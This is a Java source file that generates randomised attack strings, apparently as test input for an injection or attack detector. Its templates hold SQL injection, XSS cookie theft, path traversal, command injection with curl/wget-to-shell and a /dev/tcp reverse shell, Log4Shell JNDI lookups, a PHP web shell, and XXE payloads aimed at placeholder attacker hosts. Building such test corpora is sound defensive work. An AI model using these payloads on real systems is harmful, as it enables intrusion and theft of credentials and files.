package pt.sunbeam.detector.evasion;

import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import pt.sunbeam.detector.lexicon.Channel;

/** Attack strings of each family, made of parts: in braces stands what is drawn. Text alone; nothing here is run. */
final class AttackGrammar {
    private static final Pattern PART = Pattern.compile("\\{(\\w+)}");

    private static final Map<Channel, List<String>> TEMPLATES = Map.of(
            Channel.SQLI,
            List.of(
                    "{n}{q} or {n}={n}{c}",
                    "{q} or {q}{w}{q}={q}{w}",
                    "{n}{q} union select {cols} from {table}{c}",
                    "{n} union all select {cols} from information_schema.tables where table_schema={q}{w}{q}",
                    "{n}{q} and sleep({n}){c}",
                    "{n}{q} and (select {n} from (select(sleep({n})))a){c}",
                    "{n}{q}; drop table {table}{c}",
                    "{n}{q}; insert into {table} values ({n},{q}{w}{q}){c}",
                    "{n}{q} and extractvalue({n},concat(0x7e,(select version()))){c}",
                    "{n}{q} and updatexml({n},concat(0x7e,user()),{n}){c}",
                    "{n} and ascii(substring((select password from {table} limit 1),{n},1))>{n}",
                    "{n}{q} waitfor delay {q}0:0:{n}{q}{c}",
                    "{n}{q} having {n}={n}{c}",
                    "{q} or exists(select * from {table}){c}",
                    "{n}); exec master..xp_cmdshell {q}dir{q}{c}"),
            Channel.XSS,
            List.of(
                    "<script>alert({n})</script>",
                    "<script src=//{host}/x.js></script>",
                    "\"><script>document.location='http://{host}/?'+document.cookie</script>",
                    "<img src=x onerror=alert({n})>",
                    "<img src={w} onerror=\"prompt({n})\">",
                    "<svg/onload=confirm({n})>",
                    "<svg onload=alert(document.domain)>",
                    "<body onload=alert({n})>",
                    "<iframe src=\"javascript:alert({n})\"></iframe>",
                    "<a href=\"javascript:alert({n})\">{w}</a>",
                    "\" onmouseover=\"alert({n})\" x=\"",
                    "<details open ontoggle=alert({n})>",
                    "<input autofocus onfocus=alert(document.cookie)>",
                    "<video><source onerror=\"alert({n})\"></video>",
                    "javascript:eval('alert({n})')//{w}"),
            Channel.TRAVERSAL,
            List.of(
                    "{up}etc/passwd",
                    "{up}etc/shadow",
                    "{up}proc/self/environ",
                    "{up}windows/win.ini",
                    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
                    "....//....//....//....//etc/passwd",
                    "/var/www/html/{up}etc/passwd",
                    "file:///etc/passwd",
                    "php://filter/convert.base64-encode/resource=index.php",
                    "{w}/{up}boot.ini"),
            Channel.COMMAND,
            List.of(
                    "{w}; cat /etc/passwd",
                    "{w} | cat /etc/passwd",
                    "127.0.0.1 && ping -c {n} {host}",
                    "$(wget http://{host}/{w}.sh -O /tmp/x)",
                    "`curl http://{host}/{w} | sh`",
                    "; /bin/bash -i >& /dev/tcp/{host}/{n} 0>&1",
                    "| nc -e /bin/sh {host} {n}",
                    "() { :; }; /bin/bash -c \"cat /etc/passwd\"",
                    "; uname -a; id; ls -la /",
                    "& type c:\\windows\\win.ini &"),
            Channel.CODE,
            List.of(
                    "${jndi:ldap://{host}/{w}}",
                    "${${lower:j}ndi:rmi://{host}/{w}}",
                    "<?php system($_GET['{w}']); ?>",
                    "${T(java.lang.Runtime).getRuntime().exec('id')}",
                    "{{''.__class__.__mro__[1].__subclasses__()}}",
                    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
                    "require('child_process').exec('cat /etc/passwd')",
                    "eval(base64_decode('{w}'));phpinfo();",
                    "__import__('os').system('id')"),
            Channel.OTHER,
            List.of(
                    "<!DOCTYPE {w} [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><{w}>&xxe;</{w}>",
                    "*)(uid=*))(|(uid=*",
                    "' or count(/child::node())=1 or 'a'='b",
                    "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
                    "{w}\r\nSet-Cookie: {w}={n}\r\n\r\n<html>"));

    private static final Map<String, List<String>> PARTS = Map.of(
            "q", List.of("'", "\"", "')", "'"),
            "c", List.of("-- ", "#", "--+", "-- -", "/*"),
            "w", List.of("abc", "admin", "item", "xyz", "photo", "q1", "report"),
            "cols", List.of("1,2,3", "null,null,version()", "login,password", "1,@@version,3,4", "user(),database()"),
            "table", List.of("users", "accounts", "mysql.user", "customers", "admin_users"),
            "host", List.of("evil.example", "198.51.100.9", "x.attacker.example"),
            "up", List.of("../../../../", "../../../../../../", "../../../../../../../../../../"));

    private final RandomGenerator random;

    AttackGrammar(RandomGenerator random) {
        this.random = random;
    }

    String attack(Channel channel) {
        var templates = TEMPLATES.getOrDefault(channel, List.of());
        Matcher parts = PART.matcher(templates.get(random.nextInt(templates.size())));
        var text = new StringBuilder();
        while (parts.find()) {
            var choices = PARTS.get(parts.group(1));
            String part = parts.group(1).equals("n")
                    ? Integer.toString(random.nextInt(1, 9_999))
                    : choices == null ? parts.group() : choices.get(random.nextInt(choices.size()));
            parts.appendReplacement(text, Matcher.quoteReplacement(part));
        }
        return parts.appendTail(text).toString();
    }
}
